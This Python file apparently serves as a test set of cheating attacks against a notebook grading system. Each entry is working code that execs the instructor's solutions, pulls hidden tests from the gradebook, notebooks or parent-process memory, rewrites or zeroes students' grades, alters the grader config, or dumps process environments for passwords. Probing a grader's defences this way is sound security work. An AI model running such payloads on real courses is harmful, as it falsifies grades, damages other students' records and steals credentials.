"""Reading and writing files of the course: solutions, gradebook, hidden tests, /proc, the environment."""

from dishonest.attack import Attack

ATTACKS = [
    Attack(
        "the answer from solutions/",
        "Reads the instructor's notebook and runs its answer.",
        {
            "window": """
                import json

                for cell in json.load(open("@course@/solutions/counting/counting.ipynb"))["cells"]:
                    if cell["id"] == "window":
                        exec("".join(cell["source"]))
            """
        },
    ),
    Attack(
        "the answer from solutions/, found from here",
        "Walks up from the working directory until a folder holds solutions, with and without the kernel's own root.",
        {
            "window": """
                import json
                from pathlib import Path

                places = [Path.cwd(), *Path.cwd().parents, Path("/", "work"), Path("/srv"), Path("/course")]
                for place in places + [Path("/proc/1", "root") / place.relative_to("/") for place in places]:
                    for path in place.glob("solutions/counting/*.ipynb"):
                        for cell in json.loads(path.read_text())["cells"]:
                            if cell["id"] == "window":
                                exec("".join(cell["source"]))
            """
        },
    ),
    Attack(
        "hidden tests from the notebook being graded",
        "The notebook in the working directory holds the hidden tests while it is graded.",
        {
            "window": """
                import json
                from pathlib import Path

                for path in Path.cwd().rglob("*.ipynb"):
                    for cell in json.loads(path.read_text())["cells"]:
                        for line in "".join(cell["source"]).splitlines():
                            if line.startswith("expected = 60"):
                                in_window = eval(line.partition("=")[2])
                                n_in_window = len(in_window)
            """
        },
    ),
    Attack(
        "hidden tests from the gradebook",
        "The gradebook holds the source of each test cell.",
        {
            "window": """
                import sqlite3

                for (source,) in sqlite3.connect("@course@/gradebook.db").execute("select source from source_cell"):
                    for line in source.splitlines():
                        if line.startswith("expected = 60"):
                            in_window = eval(line.partition("=")[2])
                            n_in_window = len(in_window)
            """
        },
    ),
    Attack(
        "full marks for everybody in the gradebook",
        "Writes the maximal score of every cell as if it had been given by hand.",
        {
            "window": """
                import sqlite3

                gradebook = sqlite3.connect("@course@/gradebook.db")
                gradebook.execute("update grade set manual_score = 100")
                gradebook.commit()
                in_window, n_in_window = [], 1
            """
        },
        alone=True,
    ),
    Attack(
        "no marks for anybody else in the gradebook",
        "Removes the other students' grades.",
        {
            "window": """
                import sqlite3

                gradebook = sqlite3.connect("@course@/gradebook.db")
                gradebook.execute("update grade set auto_score = 0, manual_score = 0")
                gradebook.commit()
                in_window, n_in_window = [], 1
            """
        },
        alone=True,
    ),
    Attack(
        "the grader's configuration",
        "Appends a line to nbgrader_config.py for the next time that the instructor grades.",
        {
            "window": """
                with open("@course@/nbgrader_config.py", "a") as config:
                    config.write("# students may write here\\n")
                in_window, n_in_window = [], 1
            """
        },
        alone=True,
    ),
    Attack(
        "the grader's environment",
        "Prints the variables of the kernel's and of other processes' environments, where graders keep passwords.",
        {
            "window": """
                import os
                from pathlib import Path

                seen = [str(os.environ)]
                for path in Path("/proc").glob("[0-9]*/environ"):
                    try:
                        seen.append(path.read_text(errors="replace"))
                    except OSError:
                        pass
                print([text for text in seen if "HEPDL_ONLY_FOR_THE_GRADER" in text])
                in_window, n_in_window = [], 1
            """
        },
        reached="environment shown",
    ),
    Attack(
        "the course through /proc",
        "Looks for the solutions in the roots, working directories and open files of every process it can see.",
        {
            "window": """
                import json
                from pathlib import Path

                for process in Path("/proc").glob("[0-9]*"):
                    for place in (f"{process / 'root'}@course@", f"{process}/cwd"):
                        try:
                            text = Path(place, "solutions/counting/counting.ipynb").read_text()
                        except OSError:
                            continue
                        for cell in json.loads(text)["cells"]:
                            if cell["id"] == "window":
                                exec("".join(cell["source"]))
            """
        },
    ),
    Attack(
        "the memory of the process above",
        "Looks for a hidden test in the memory of the process that started the kernel.",
        {
            "window": """
                import os
                import re

                wanted = ("expected = 60 " + "+ 0.5").encode()
                maps = open(f"/proc/{os.getppid()}/maps").read()
                with open(f"/proc/{os.getppid()}/mem", "rb", 0) as memory:
                    for start, end in re.findall(r"^([0-9a-f]+)-([0-9a-f]+) rw", maps, re.MULTILINE):
                        try:
                            memory.seek(int(start, 16))
                            if wanted in memory.read(min(int(end, 16) - int(start, 16), 200_000_000)):
                                in_window, n_in_window = 60 + 0.5 * np.arange(121), 121
                                break
                        except (OSError, OverflowError, ValueError):
                            pass
            """
        },
    ),
    Attack(
        "the environment of all students",
        "Looks whether the installed packages, the course's own among them, could be changed.",
        {
            "window": """
                import os
                import sys

                import helpers

                if os.access(sys.prefix, os.W_OK) or os.access(helpers.__file__, os.W_OK):
                    print("REACH" + "ED")
                in_window, n_in_window = [], 1
            """
        },
        reached="packages can be changed",
    ),
]
